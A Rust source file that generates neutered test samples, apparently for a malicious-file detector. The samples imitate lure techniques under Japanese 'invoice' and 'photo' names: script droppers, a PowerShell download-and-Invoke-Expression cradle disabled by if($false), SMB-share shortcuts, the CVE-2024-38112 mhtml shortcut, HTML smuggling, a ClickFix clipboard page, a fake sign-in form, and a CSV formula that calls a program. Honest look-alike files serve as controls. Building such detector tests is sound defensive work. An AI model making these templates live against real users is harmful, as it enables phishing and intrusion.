//! Web pages, pictures that act, scripts and text shortcuts, and honest files that look like them.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::archive::zip::ZipFile;
use crate::{Sample, mark};

/// The samples of this group.
pub(super) fn all() -> Vec<Sample> {
    let mut all = scripts();
    all.extend(shortcuts());
    all.extend(pages());
    all
}

fn sample(id: &'static str, file_name: &'static str, about: &'static str, make: fn() -> Vec<u8>) -> Sample {
    Sample { id, file_name, about, make }
}

/// Scripts that put an address into a variable and end.
fn scripts() -> Vec<Sample> {
    let about = "a script that puts an address into a variable and ends";
    vec![
        sample("fs1-js", "請求書.js", about, || {
            format!("// {}\r\nvar u = \"http://example.com/s/js\";\r\n", mark("fs1-js")).into()
        }),
        sample("fs1-vbs", "請求書.vbs", about, || {
            format!("' {}\r\nOption Explicit\r\nDim u\r\nu = \"http://example.com/s/vbs\"\r\n", mark("fs1-vbs")).into()
        }),
        sample("fs1-ps1", "請求書.ps1", about, || {
            format!("# {}\r\n$u = 'http://example.com/s/ps1'\r\n", mark("fs1-ps1")).into()
        }),
        sample("fs1-bat", "請求書.bat", about, || {
            format!("@echo off\r\nrem {}\r\nset U=http://example.com/s/bat\r\n", mark("fs1-bat")).into()
        }),
        sample("fs1-wsf", "請求書.wsf", about, || {
            let code = "<job><script language=\"JScript\">var u = \"http://example.com/s/wsf\";</script></job>\r\n";
            format!("<!-- {} -->\r\n{code}", mark("fs1-wsf")).into()
        }),
        sample("fs1-hta", "請求書.hta", about, || {
            let code = "<script>var u = \"http://example.com/s/hta\";</script></head><body>請求書</body></html>\r\n";
            format!("<!-- {} --><html><head><hta:application id=\"a\">{code}", mark("fs1-hta")).into()
        }),
        sample("fs1-fetch", "更新.ps1", "a script that names a download and a decoder and uses neither", || {
            let code = "if ($false) {\r\n  $t = (New-Object Net.WebClient).DownloadString('http://example.com/s/x')\r\n  \
                        Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($t)))\r\n}\r\n";
            format!("# {}\r\n{code}", mark("fs1-fetch")).into()
        }),
        sample("fs1-jse", "請求書.jse", "the mark of an encoded script, around nothing", || {
            b"#@~^AAAAAA==AAAAAA==^#~@\r\n".to_vec()
        }),
    ]
}

fn shortcuts() -> Vec<Sample> {
    vec![
        sample("fs4-icon", "写真.url", "a web shortcut whose icon lies on another machine's share", || {
            b"[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\192.0.2.40\\s\\a.ico\r\nIconIndex=0\r\n"
                .to_vec()
        }),
        sample("fs4-mhtml", "写真.url", "a shortcut that opens the old browser (CVE-2024-38112)", || {
            b"[InternetShortcut]\r\nURL=mhtml:http://example.com/a.html!x-usc:http://example.com/a.html\r\n".to_vec()
        }),
        sample("fs4-library", "共有.library-ms", "a library that shows a folder of another machine", || {
            let text = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<libraryDescription \
                        xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList>\
                        <searchConnectorDescription><simpleLocation><url>\\\\192.0.2.40\\s</url></simpleLocation>\
                        </searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\r\n";
            text.into()
        }),
        sample("fs5", "接続設定.rdp", "a remote desktop that is lent drives and clipboard", || {
            let text = "full address:s:203.0.113.9\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\n\
                        remoteapplicationmode:i:1\r\n";
            text.into()
        }),
        sample("fs2", "設定.msc", "the string that makes a console run script, without the script", || {
            let text = "<?xml version=\"1.0\"?>\r\n<MMC_ConsoleFile ConsoleVersion=\"3.0\"><StringTables><StringTable><Strings>\
                        <String ID=\"1\">res://apds.dll/redirect.html?target=none</String></Strings></StringTable>\
                        </StringTables></MMC_ConsoleFile>\r\n";
            text.into()
        }),
        sample("fo5-iqy", "写真.iqy", "a query that makes Excel fetch from an address", || {
            b"WEB\r\n1\r\nhttp://example.com/q\r\n".to_vec()
        }),
        sample("fx5-desktop", "写真.desktop", "a desktop entry that runs a shell", || {
            b"[Desktop Entry]\nType=Application\nName=photo.jpg\nIcon=image\nExec=sh -c \"harmless-none\"\n".to_vec()
        }),
        sample("fo5-slk", "見積.slk", "a SYLK spreadsheet with one number", || {
            b"ID;PWXL;N;E\r\nC;Y1;X1;K1000\r\nE\r\n".to_vec()
        }),
        sample(
            "fr1-object",
            "案内.rtf",
            "an odd RTF header and an object that loads by itself, without content",
            || {
                format!(
                    "{{\\rt\\ansi {}{{\\object\\objemb\\objupdate{{\\*\\objdata 0105}}}}\\par}}",
                    mark("fr1-object")
                )
                .into()
            },
        ),
        sample("fr1", "案内.rtf", "an RTF that names a template on the web", || {
            format!("{{\\rtf1\\ansi{{\\*\\template http://example.com/t}}{}\\par}}", mark("fr1")).into()
        }),
        sample("fo4-csv", "名簿.csv", "a cell that calls a program", || {
            b"name,value\r\nYamada,1\r\nSuzuki,=harmless-none|'/x'!A0\r\n".to_vec()
        }),
    ]
}

fn pages() -> Vec<Sample> {
    vec![
        sample("fs6-smuggle", "請求書.html", "a page that builds an archive from text and hands it over", || {
            let zip = ZipFile::new().entry("readme.txt", mark("fs6-smuggle")).build();
            let code = "var b = atob(data); var n = new Array(b.length);\nfor (var i = 0; i < b.length; i++) n[i] = \
                        b.charCodeAt(i);\nvar f = new Blob([new Uint8Array(n)], {type: 'application/zip'});\n\
                        var a = document.createElement('a'); a.href = URL.createObjectURL(f); a.download = '請求書.zip';";
            format!(
                "<!DOCTYPE html><html><meta charset=\"utf-8\"><body><p>請求書をダウンロードしています。</p><script>\nvar data = \
                 '{}';\n{code}\n</script></body></html>\n",
                STANDARD.encode(zip)
            )
            .into()
        }),
        sample("fs6-clickfix", "確認.html", "a page that puts a command on the clipboard and asks to run it", || {
            let text = "<!DOCTYPE html><html><meta charset=\"utf-8\"><body><h1>ロボットではないことの確認</h1><ol><li>Windowsキー＋R \
                        を押します</li><li>Ctrl+V で貼り付けます</li><li>Enter を押します</li></ol><button onclick=\"\
                        navigator.clipboard.writeText('powershell harmless-none.exe # I am not a robot')\">確認</button></body>\
                        </html>\n";
            text.into()
        }),
        sample("fs6-svg", "ロゴ.svg", "a picture with a script that sets a variable", || {
            format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/>\
                 <script>/* {} */ var u = 'http://example.com/svg';</script></svg>\n",
                mark("fs6-svg")
            )
            .into()
        }),
        sample("fe19", "案内.html", "a link that abuses Outlook's handling of file: addresses", || {
            b"<html><body><p><a href=\"file:///\\\\192.0.2.40\\s\\a.rtf!x\">Details</a></p></body></html>\n".to_vec()
        }),
        sample(
            "fs6-login",
            "請求書.html",
            "a page that asks for a password, lies about a link and shows a share's picture",
            || {
                let text = "<!DOCTYPE html><html><meta charset=\"utf-8\"><body><h1>サインイン</h1><form \
                        action=\"https://login.example.net/p\"><input name=\"u\"><input type=\"password\" name=\"p\"></form>\
                        <p><a href=\"https://login.example.net/\">https://www.example.com/</a></p><img \
                        src=\"file://192.0.2.40/s/a.png\"></body></html>\n";
                text.into()
            },
        ),
        sample("fs6-redirect", "請求書.html", "a page that only leads to another address", || {
            b"<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://example.net/\"></head></html>\n"
                .to_vec()
        }),
        sample("b13-svg", "ロゴ.svg", "an honest logo with a style and an animation", || {
            let text = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 20 20\">\
                        <title>Logo</title><style>.a { fill: #246 }</style><circle class=\"a\" cx=\"10\" cy=\"10\" r=\"8\">\
                        <animate attributeName=\"r\" values=\"8;9;8\" dur=\"2s\" repeatCount=\"indefinite\"/></circle></svg>\n";
            text.into()
        }),
        sample("b13-receipt", "領収書.html", "an honest receipt with a script that formats the date", || {
            let text = "<!DOCTYPE html>\n<html lang=\"ja\"><head><meta charset=\"utf-8\"><title>領収書</title></head><body>\
                        <h1>領収書</h1><p>航空券代金として 54,000 円を領収いたしました。</p><p id=\"d\">2016-03-15</p>\
                        <p><a href=\"https://example.com/receipt\">https://example.com/receipt</a></p><script>\n\
                        var d = document.getElementById('d');\nd.textContent = d.textContent.replace(/-/g, '/');\n</script>\
                        </body></html>\n";
            text.into()
        }),
        sample("b14-text", "手順書.txt", "an honest manual that quotes commands", || {
            let text = "PC 設定手順書\r\n\r\n1. Windowsキー＋R を押し、powershell と入力して Enter を押します。\r\n2. 次のコマンドを貼り付けて\
                        実行します。\r\n   Set-ExecutionPolicy RemoteSigned\r\n   $s = Get-Service -Name Spooler\r\n   \
                        Restart-Service $s\r\n3. 「コンテンツの有効化」は押さないでください。\r\n\r\n参考: https://example.com/manual\r\n";
            text.into()
        }),
    ]
}
